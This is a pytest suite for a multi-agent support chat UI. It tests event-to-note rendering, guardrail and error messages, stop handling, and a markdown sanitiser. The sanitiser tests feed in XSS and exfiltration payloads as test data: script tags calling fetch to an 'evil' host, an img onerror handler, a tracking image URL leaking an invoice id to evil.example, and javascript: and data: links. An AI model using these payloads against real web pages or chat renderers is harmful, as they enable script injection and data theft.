"""The chat UI: TurnView and safe_markdown on scripted events, then the launched app via gradio_client."""

from __future__ import annotations

import re
import time

import pytest
from gradio_client import Client

from conversations import open_store
from devtools.server import offline_settings, serve
from runtime import Runtime
from streaming.events import (
    AgentUpdated,
    Done,
    Error,
    GuardrailTripped,
    Handoff,
    ReasoningDelta,
    TextDelta,
    ToolCall,
    ToolOutput,
)
from tests.test_turn import counting_team, tool_io_in
from ui.chat_view import TurnView
from ui.safe_markdown import safe_markdown

# --- TurnView on scripted view events -----------------------------------------------------------


def _view(*events) -> TurnView:
    view = TurnView()
    for event in events:
        view.apply(event)
    return view


def _notes(messages):
    return [m for m in messages if m.get("metadata")]


def test_text_deltas_accumulate_into_one_message():
    messages = _view(TextDelta("Hello"), TextDelta(", "), TextDelta("world")).messages()
    assert [m["content"] for m in messages] == ["Hello, world"]
    assert not messages[0].get("metadata")


def test_tool_note_is_pending_until_its_output_then_done_with_duration():
    view = _view(AgentUpdated("Billing Agent"), ToolCall("lookup_invoice", "call_7", '{"invoice_id": "INV-1001"}'))
    (pending,) = _notes(view.messages())
    assert "lookup_invoice" in pending["metadata"]["title"]
    assert pending["metadata"]["id"] == "call_7"
    assert pending["metadata"]["status"] == "pending"
    assert "duration" not in pending["metadata"]
    assert "INV-1001" in pending["content"]
    view.apply(ToolOutput("call_7", "Invoice INV-1001: $49.00"))
    (done,) = _notes(view.messages())
    assert done["metadata"]["status"] == "done"
    assert done["metadata"]["id"] == "call_7"
    assert isinstance(done["metadata"]["duration"], (int, float)) and done["metadata"]["duration"] >= 0
    assert "$49.00" in done["content"]


def test_handoff_note_names_the_target_agent():
    (note,) = _notes(_view(Handoff("Triage Agent", "Billing Agent")).messages())
    assert "Billing Agent" in note["metadata"]["title"]
    assert note["metadata"]["status"] == "done"


def test_reasoning_becomes_a_thinking_note_closed_by_text():
    view = _view(ReasoningDelta("Look the "), ReasoningDelta("invoice up."))
    (note,) = _notes(view.messages())
    assert "Thinking" in note["metadata"]["title"]
    assert note["metadata"]["status"] == "pending"
    assert note["content"] == "Look the invoice up."
    view.apply(TextDelta("Done."))
    note, text = view.messages()
    assert note["metadata"]["status"] == "done" and text["content"] == "Done."


def test_guardrail_and_error_notes():
    messages = _view(
        GuardrailTripped("Customer data guard", "Blocked: not your data."), Error("The model provider is rate limiting.")
    ).messages()
    guard, error = _notes(messages)
    assert "Customer data guard" in guard["metadata"]["title"] and "not your data" in guard["content"]
    assert "rate limiting" in error["content"]
    assert guard["metadata"]["id"] != error["metadata"]["id"]


def test_a_block_or_an_error_is_answered_in_plain_words_to_the_person():
    messages = _view(AgentUpdated("Triage Agent"), GuardrailTripped("Customer data guard", "Blocked: It asks for data that is not yours.")).messages()
    note, answer = messages
    assert note["metadata"]["status"] == "done" and "not yours" in note["content"]  # the details stay in the note
    assert not answer.get("metadata") and answer["content"] == "🛡️ I can't help with that: it asks for data that is not yours."
    note, answer = _view(TextDelta("Let me"), Error("The model provider is rate limiting (429).")).messages()[1:]
    assert answer["content"].startswith("⚠️ Sorry, I couldn't finish this answer: the model provider is rate limiting")


def test_the_answer_names_its_agent_once_per_agent():
    view = _view(AgentUpdated("Triage Agent"), TextDelta("One moment."), Handoff("Triage Agent", "Billing Agent"),
                 TextDelta("Here it is"), ToolCall("lookup_invoice", "c1", "{}"), ToolOutput("c1", "ok"), TextDelta("More."))
    texts = [m["content"] for m in view.messages() if not m.get("metadata")]
    assert texts == ["###### Triage Agent\n\nOne moment.", "###### Billing Agent\n\nHere it is", "More."]


def test_stop_ends_every_turn_with_a_stopped_marker_once():
    from ui.chat_view import STOPPED_MARKER, close_pending_notes

    shown = [{"role": "user", "content": "hi"}, {"role": "assistant", "content": "t", "metadata": {"title": "🛠️ x", "status": "pending"}}]
    closed, state = close_pending_notes(shown)
    assert closed == state and closed[-1] == {"role": "assistant", "content": STOPPED_MARKER}
    assert closed[1]["metadata"] == {"title": "🛠️ x (stopped)", "status": "done"}
    assert close_pending_notes(closed)[0] == closed  # a second Stop adds nothing
    assert close_pending_notes([{"role": "user", "content": "hi"}])[0][-1]["content"] == STOPPED_MARKER


def test_done_marks_every_note_done_and_ids_are_unique():
    events = [
        AgentUpdated("Triage Agent"),
        Handoff("Triage Agent", "Billing Agent"),
        ReasoningDelta("hmm"),
        ToolCall("lookup_invoice", "call_1", "{}"),
        ToolCall("request_refund", "call_2", "{}"),  # never gets an output (the run was stopped)
        ToolOutput("call_1", "ok"),
        Done(final="", last_agent="Billing Agent"),
    ]
    notes = _notes(_view(*events).messages())
    assert len(notes) == 4
    assert all(n["metadata"]["status"] == "done" for n in notes)
    ids = [n["metadata"]["id"] for n in notes]
    assert len(set(ids)) == len(ids)


def test_messages_returns_new_objects_each_call():
    view = _view(TextDelta("a"), ToolCall("search_docs", "call_1", "{}"))
    first, second = view.messages(), view.messages()
    assert first == second
    assert all(a is not b for a, b in zip(first, second))
    assert first[1]["metadata"] is not second[1]["metadata"]


def test_model_text_is_rendered_inert_in_the_view():
    (message,) = _view(TextDelta("<script>alert(1)</script>")).messages()
    assert "<script" not in message["content"]


# --- safe_markdown --------------------------------------------------------------------------------


def test_script_and_html_tags_are_shown_as_text():
    out = safe_markdown('Hi <script>fetch("https://evil")</script> <img src=x onerror=alert(1)>')
    assert "<script" not in out and "<img" not in out
    assert "&lt;script&gt;" in out


def test_markdown_images_become_plain_links():
    out = safe_markdown("![pixel](https://evil.example/b.png?leak=INV-1001) and ![r][1]\n\n[1]: https://evil.example/c.png")
    assert "![" not in out.replace("!\\[", "")
    assert "https://evil.example/b.png?leak=INV-1001" in out  # still visible as a link, never fetched


def test_javascript_links_are_inert():
    for text in ("[click](javascript:alert(1))", "[c]( JaVaScRiPt:alert(1))", "[c](data:text/html,x)", "go to javascript:alert(1)"):
        out = safe_markdown(text)
        assert not re.search(r"(javascript|data)\s*:", out, re.IGNORECASE), (text, out)


def test_safe_links_and_code_blocks_are_kept():
    assert safe_markdown("[docs](https://nimbus.example/docs)") == "[docs](https://nimbus.example/docs)"
    code = "```html\n<script>ok()</script>\n```"
    assert safe_markdown(f"Example:\n{code}\nthen `a<b>`") == f"Example:\n{code}\nthen `a<b>`"


# --- the launched app through gradio_client ------------------------------------------------------------

BILLING_QUESTION = "I was charged twice on invoice INV-1001, can you refund me?"


def _titles(messages) -> list[str]:
    return [(m.get("metadata") or {}).get("title") or "" for m in messages]


def _answer(messages) -> str:
    """The last plain assistant message: the final answer of the turn."""
    plain = [m["content"] for m in messages if not m.get("metadata")]
    return plain[-1] if plain else ""


class Chat:
    """One chat through gradio_client: sends the chat id back when the endpoint takes one.

    The `/chat` endpoint streams the turn's messages, or `(messages, chat_id)` when the chat id is an
    API-visible input/output; this speaks both, so the tests check behaviour, not the wiring.
    """

    def __init__(self, url: str):
        self.client = Client(url, verbose=False)
        info = self.client.view_api(print_info=False, return_format="dict")["named_endpoints"]["/chat"]
        self.takes_id = len(info["parameters"]) > 1
        self.chat_id = ""

    def submit(self, message: str):
        arguments = (message, self.chat_id) if self.takes_id else (message,)
        return self.client.submit(*arguments, api_name="/chat")

    def messages(self, output) -> list[dict]:
        """The messages of one streamed output (remembering the chat id when it comes with them)."""
        if isinstance(output, (tuple, list)) and len(output) == 2 and not isinstance(output[1], dict):
            output, chat_id = output
            self.chat_id = chat_id or self.chat_id
        return list(output or [])

    def ask(self, message: str) -> list[dict]:
        job = self.submit(message)
        return self.messages(job.result())


def test_billing_question_streams_notes_and_the_refund(live_app):
    chat = Chat(live_app)
    job = chat.submit(BILLING_QUESTION)
    updates = [messages for output in job if (messages := chat.messages(output))]
    final = chat.messages(job.result())
    assert len(updates) >= 5
    titles = _titles(final)
    assert any("lookup_invoice" in t for t in titles) and any("request_refund" in t for t in titles)
    assert any("Handoff" in t and "Billing Agent" in t for t in titles)
    assert all((m.get("metadata") or {}).get("status") in (None, "done") for m in final)
    assert "RF-1001" in _answer(final)
    tool_ids = [m["metadata"]["id"] for m in final if "🛠️" in _titles([m])[0]]
    assert len(tool_ids) == 2 and all(i.startswith("call_") for i in tool_ids) and len(set(tool_ids)) == 2


def test_docs_question_goes_to_support_with_a_search_note(live_app):
    final = Chat(live_app).ask("How do I rotate an API key?")
    titles = _titles(final)
    assert any("Support Agent" in t for t in titles)
    assert any("search_docs" in t for t in titles)
    assert "api-keys" in _answer(final)


def test_a_chat_continues_its_own_conversation_and_no_other(live_app):
    first = Chat(live_app)
    first.ask(BILLING_QUESTION)
    again = first.ask("What was the amount again?")
    assert not any("Handoff" in t for t in _titles(again)), again  # still with Billing Agent
    assert "INV-1001" in _answer(again) and "$49.00" in _answer(again)

    other = Chat(live_app).ask("What was the amount on that invoice again?")
    assert "Which invoice" in _answer(other)
    assert "$49.00" not in _answer(other) and "RF-1001" not in str(other)


@pytest.fixture(scope="module")
def counted():
    """A served app whose model calls and tool calls are counted; the demo tools take 30 s.

    One server for the module (starting one costs seconds); tests compare counts before and after.
    """
    team, model, tools = counting_team()
    settings = offline_settings(demo_tool_latency=30)
    runtime = Runtime(settings, team=team, store=open_store(":memory:", settings.conversation_ttl))
    with serve(runtime) as url:
        yield url, model, tools


def _wait_for(condition, timeout: float = 10.0):
    deadline = time.monotonic() + timeout
    while not (value := condition()):
        assert time.monotonic() < deadline, "condition not reached in time"
        time.sleep(0.02)  # polling with a deadline
    return value


def test_stop_ends_the_run_on_the_server(counted):
    url, model, tools = counted
    started, ended = tools.started.count, tools.ended.count
    chat = Chat(url)
    job = chat.submit(BILLING_QUESTION)
    _wait_for(lambda: any("lookup_invoice" in t for out in job.outputs() for t in _titles(chat.messages(out))))
    assert tools.started.count == started + 1
    _wait_for(lambda: tool_io_in(model.loop) == 1)  # the 30 s tool is running on the server
    calls = model.calls.count
    job.cancel()
    _wait_for(lambda: tool_io_in(model.loop) == 0)  # the tool (30 s) was cancelled, not left running
    assert model.open_streams == 0
    assert model.calls.quiet_for(1.0) and model.calls.count == calls
    assert (tools.started.count, tools.ended.count) == (started + 1, ended)


@pytest.mark.parametrize("message", ["", "   ", "x" * 8001], ids=["empty", "blank", "too-long"])
def test_empty_or_too_long_message_gives_a_note_and_no_model_call(counted, message):
    url, model, _ = counted
    calls = model.calls.count
    (note,) = Chat(url).ask(message)
    assert note["metadata"]["title"] and note["metadata"]["status"] == "done"
    assert ("empty" in note["content"]) if len(message) < 10 else ("8,001" in note["content"])
    assert model.calls.count == calls
